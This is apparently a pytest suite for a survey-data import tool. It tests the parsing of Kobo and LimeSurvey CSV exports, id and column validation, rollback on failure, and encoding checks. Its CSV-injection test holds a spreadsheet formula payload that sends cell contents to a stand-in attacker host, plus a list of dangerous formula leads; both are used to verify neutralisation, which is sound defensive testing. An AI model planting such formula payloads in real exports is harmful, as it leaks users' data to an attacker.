"""Survey exports written by an attacker or a careless export (fixtures: the made-up Kobo/LimeSurvey files).

Each refused import asserts that the survey database is unchanged (same rows, same count) and that
the message names what to fix; accepted ones assert the value that was stored.
"""

from __future__ import annotations

import csv
import io
import os
import uuid
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tb_testing import skip_outside_ci
from tradebridge.errors import DataError, StoreError
from tradebridge.survey import default_instrument_path, load_instrument
from tradebridge.survey.responses import import_export_file, parse_number
from tradebridge.survey.storage import ResponseStore, export_frame, formula_safe

FIX = Path(__file__).parent / "fixtures"
INST = load_instrument(default_instrument_path())


def kobo(tmp_path: Path, edit=None, name: str = "k.csv") -> Path:
    """The Kobo fixture as a list of dict rows, edited by ``edit(header, rows)``, written back."""
    text = (FIX / "kobo_export_madeup.csv").read_text(encoding="utf-8")
    header, *rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    recs = [dict(zip(header, r, strict=True)) for r in rows]
    if edit:
        header, recs = edit(header, recs)
    out = io.StringIO()
    w = csv.writer(out, delimiter=";", lineterminator="\n")
    w.writerow(header)
    w.writerows([[r.get(h, "") for h in header] for r in recs])
    path = tmp_path / name
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def lime(tmp_path: Path, old: str, new: str) -> Path:
    path = tmp_path / "l.csv"
    path.write_text((FIX / "limesurvey_export_madeup.csv").read_text(encoding="utf-8").replace(old, new, 1),
                    encoding="utf-8")
    return path


@pytest.fixture
def store(tmp_path):
    s = ResponseStore(f"sqlite:///{tmp_path / 'survey.sqlite'}")
    s.add(INST.id, INST.version, {"country": "CHL"}, submission_id="web:earlier", lang="es", source="web")
    yield s
    s.close()


def snapshot(store: ResponseStore) -> list:
    return store.frame(INST).astype(str).values.tolist()


def refused(store, path, fmt, match) -> DataError:
    before, n = snapshot(store), store.count()
    with pytest.raises(DataError, match=match) as err:
        store.add_many(INST, import_export_file(INST, path, fmt))
    assert snapshot(store) == before and store.count() == n
    assert "Fix:" in str(err.value)
    return err.value


# ------------------------------------------------------------------------------------------ numbers
@pytest.mark.parametrize("typed, stored", [("1,000", 1000), ("1.000", 1000), ("1 000", 1000), ("12", 12)])
def test_thousands_separators_are_read_not_truncated(tmp_path, store, typed, stored):
    path = kobo(tmp_path, lambda h, rs: (h, [{**rs[0], "market/contacts_korea": typed}, rs[1]]))
    store.add_many(INST, import_export_file(INST, path, "kobo"))
    got = store.frame(INST).set_index("submission_id")["contacts_korea"]
    assert got["kobo:0b6c6f7e-1111-4a2b-9c3d-aaaaaaaaaaaa"] == stored


def test_limesurvey_thousands_and_fractions(tmp_path, store):
    path = lime(tmp_path, '"12","2"', '"1,000","2"')  # contacts_korea of id 11
    store.add_many(INST, import_export_file(INST, path, "limesurvey"))
    assert store.frame(INST).set_index("submission_id").loc["limesurvey:11", "contacts_korea"] == 1000
    refused(store, lime(tmp_path, '"12","2"', '"1,5","2"'), "limesurvey", "contacts_korea: must be a whole number")


@pytest.mark.parametrize("typed, expected", [
    ("1,000", (1000.0, None)), ("1.234.567", (1234567.0, None)), ("1,234,567", (1234567.0, None)),
    ("0,500", (0.5, None)), ("12,34,567", (None, "must be a whole number")), ("1e3", (None, "must be a whole number")),
])
def test_parse_number_whole_numbers(typed, expected):
    assert parse_number(typed, integer=True) == expected


@pytest.mark.parametrize("typed, expected", [
    ("1.234,5", 1234.5), ("1,234.5", 1234.5), ("2,5", 2.5), ("2.25", 2.25), ("-3,75", -3.75), ("1.234.567,89", 1234567.89),
])
def test_parse_number_decimals_in_both_conventions(typed, expected):
    assert parse_number(typed) == (expected, None)


@pytest.mark.parametrize("typed", ["1,000", "2.500", "inf", "nan", "1,2,3", "1.234.5", ""])
def test_parse_number_refuses_ambiguous_and_invalid(typed):
    num, err = parse_number(typed)
    assert num is None and err


@settings(max_examples=200, deadline=None)
@given(n=st.integers(0, 10**12), style=st.sampled_from(["{:,}", "{:_}", "{}"]), mark=st.sampled_from([",", ".", " "]))
def test_grouped_whole_numbers_round_trip(n, style, mark):
    """Any whole number written with any thousands mark is read back exactly (integer questions)."""
    typed = style.format(n).replace(",", mark).replace("_", mark)
    assert parse_number(typed, integer=True) == (float(n), None)


@settings(max_examples=200, deadline=None)
@given(cents=st.integers(0, 10**11), en=st.booleans())
def test_grouped_decimals_round_trip(cents, en):
    """1,234.56 (Mexico) and 1.234,56 (Chile, Colombia, Peru) both give 1234.56; exact to the cent."""
    typed = f"{cents // 100:,}.{cents % 100:02d}"
    if not en:
        typed = typed.replace(",", "§").replace(".", ",").replace("§", ".")
    num, err = parse_number(typed)
    assert err is None and round(num * 100) == cents


# ------------------------------------------------------------------------------------ Kobo columns
def test_stray_group_column_does_not_override_the_full_path(tmp_path, store):
    def stray(h, rs):
        return h + ["other/country"], [{**r, "other/country": "MEX"} for r in rs]

    store.add_many(INST, import_export_file(INST, kobo(tmp_path, stray), "kobo"))
    got = store.frame(INST).set_index("submission_id")["country"]
    assert got.filter(like="kobo:").tolist() == ["COL", "PER"]  # respondent/country, as exported


def test_ambiguous_columns_are_refused(tmp_path, store):
    def two(h, rs):
        h = [("a/country" if c == "respondent/country" else c) for c in h] + ["b/country"]
        return h, [{**{("a/country" if k == "respondent/country" else k): v for k, v in r.items()}, "b/country": "MEX"}
                   for r in rs]

    err = refused(store, kobo(tmp_path, two), "kobo", "ambiguously")
    assert "country: a/country, b/country" in str(err)


def test_duplicate_column_names_are_refused(tmp_path, store):
    path = lime(tmp_path, '"country"', '"country","country"')
    refused(store, path, "limesurvey", r"column\(s\) \['country'\] appear more than once")


# ------------------------------------------------------------------------------------------------ ids
def test_blank_ids_are_refused_naming_the_rows(tmp_path, store):
    path = kobo(tmp_path, lambda h, rs: (h, [{**r, "_uuid": " "} for r in rs]))
    err = refused(store, path, "kobo", "line 2: blank; line 3: blank")
    assert err.rows == [2, 3]


def test_duplicate_ids_are_refused(tmp_path, store):
    path = kobo(tmp_path, lambda h, rs: (h, [rs[0], {**rs[1], "_uuid": rs[0]["_uuid"]}]))
    refused(store, path, "kobo", "line 3 repeats line 2")


def test_an_over_long_id_in_the_last_row_stores_nothing(tmp_path, store):
    path = kobo(tmp_path, lambda h, rs: (h, [rs[0], {**rs[1], "_uuid": "x" * 100}]))
    refused(store, path, "kobo", "line 3: longer than 64 characters")


def _rows(prefix: str = "t") -> pd.DataFrame:
    return pd.DataFrame([{"submission_id": f"{prefix}:{i}", "lang": "es", "source": "kobo",
                          "answers": {"country": "CHL"}} for i in range(4)])


def _all_or_nothing(store: ResponseStore, rows: pd.DataFrame) -> None:
    """The database refuses the 4th row (a trigger): the three rows before it must not stay."""
    before, n = snapshot(store), store.count()
    with pytest.raises(StoreError, match="rolled back, nothing was stored: .*refused by the test trigger"):
        store.add_many(INST, rows)
    assert snapshot(store) == before and store.count() == n


def test_one_transaction_per_import_sqlite(store):
    with store.engine.begin() as conn:
        conn.exec_driver_sql("CREATE TRIGGER refuse BEFORE INSERT ON survey_responses WHEN NEW.submission_id = 't:3' "
                             "BEGIN SELECT RAISE(ABORT, 'refused by the test trigger'); END")
    _all_or_nothing(store, _rows())
    assert store.add_many(INST, _rows("ok")) == 4


def test_rows_without_lang_or_source_are_refused_before_writing(store):
    bad = _rows().astype(object)
    bad.loc[3, "lang"] = None
    with pytest.raises(DataError, match=r"needs a lang .*nothing was stored \(rows 3\)"):
        store.add_many(INST, bad)
    assert store.count() == 1


@pytest.mark.postgres
def test_one_transaction_per_import_postgres():
    url = os.environ.get("TRADEBRIDGE_TEST_PG")
    if not url:
        skip_outside_ci("set TRADEBRIDGE_TEST_PG to a PostgreSQL URL (an empty test database); .ci/run sets it")
    tag = uuid.uuid4().hex[:12]
    with ResponseStore(url) as s:
        with s.engine.begin() as conn:
            conn.exec_driver_sql(
                f"CREATE FUNCTION refuse_{tag}() RETURNS trigger AS $$ BEGIN IF NEW.submission_id = '{tag}:3' THEN "
                "RAISE EXCEPTION 'refused by the test trigger'; END IF; RETURN NEW; END $$ LANGUAGE plpgsql")
            conn.exec_driver_sql(f"CREATE TRIGGER refuse_{tag} BEFORE INSERT ON survey_responses FOR EACH ROW "
                                 f"EXECUTE FUNCTION refuse_{tag}()")
        try:
            _all_or_nothing(s, _rows(tag))
            assert s.add_many(INST, _rows(f"{tag}ok")) == 4
        finally:
            with s.engine.begin() as conn:
                conn.exec_driver_sql(f"DROP TRIGGER refuse_{tag} ON survey_responses")
                conn.exec_driver_sql(f"DROP FUNCTION refuse_{tag}()")


# ---------------------------------------------------------------------------------- encodings, sizes
def test_latin1_export_is_refused_with_the_encoding(tmp_path, store):
    path = tmp_path / "latin.csv"
    path.write_bytes((FIX / "kobo_export_madeup.csv").read_text(encoding="utf-8").encode("latin-1"))
    err = refused(store, path, "kobo", "not UTF-8 .it looks Latin-1 / Windows-1252")
    assert "export again as UTF-8" in str(err)


@pytest.mark.parametrize("content, match", [(b"", "the file is empty"), (b"\xef\xbb\xbf  \n", "the file is empty"),
                                            (b"_uuid;respondent/country\n", "a header but no responses")])
def test_empty_and_header_only_exports(tmp_path, store, content, match):
    path = tmp_path / "e.csv"
    path.write_bytes(content)
    refused(store, path, "kobo", match)


def test_oversized_export_is_refused(tmp_path, store):
    with pytest.raises(DataError, match="limit 100"):
        import_export_file(INST, FIX / "kobo_export_madeup.csv", "kobo", max_bytes=100)


# ---------------------------------------------------------------------------------- CSV injection
def test_formulas_in_text_answers_are_neutralised_on_csv_export(tmp_path, store):
    attack = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
    path = kobo(tmp_path, lambda h, rs: (h, [{**rs[0], "membership/comments": attack}, rs[1]]))
    store.add_many(INST, import_export_file(INST, path, "kobo"))
    wide = store.frame(INST)
    back = pd.read_csv(export_frame(wide, tmp_path / "out.csv"), dtype=str)
    assert back.set_index("submission_id").loc["kobo:0b6c6f7e-1111-4a2b-9c3d-aaaaaaaaaaaa", "comments"] == "'" + attack
    assert pd.read_parquet(export_frame(wide, tmp_path / "out.parquet"))["comments"].tolist()[1] == attack  # data kept


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_safe_prefixes_every_dangerous_lead(lead):
    out = formula_safe(pd.DataFrame({"t": [f"{lead}cmd", "safe"], "n": [-1.5, 2.0]}))
    assert out["t"].tolist() == [f"'{lead}cmd", "safe"] and out["n"].tolist() == [-1.5, 2.0]


def test_cli_latin1_instrument_and_bad_population_file_are_clear_errors(tmp_path):
    from typer.testing import CliRunner

    from tradebridge.cli.main import app

    inst = tmp_path / "i.yaml"
    inst.write_bytes("id: encuesta\ntitle: {es: Percepción}\n".encode("latin-1"))
    res = CliRunner().invoke(app, ["survey", "validate", str(inst)])
    assert res.exit_code != 0 and "the instrument is not UTF-8 text" in (res.output + str(res.exception))
    pop = tmp_path / "pop.csv"
    pop.write_bytes("country,Freq\nPerú,10\n".encode("latin-1"))
    res = CliRunner().invoke(app, ["survey", "analyze", "--demo", "--population", str(pop)])
    assert res.exit_code != 0 and "cannot read the population margin" in (res.output + str(res.exception))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["i.yaml", "pop.csv"]
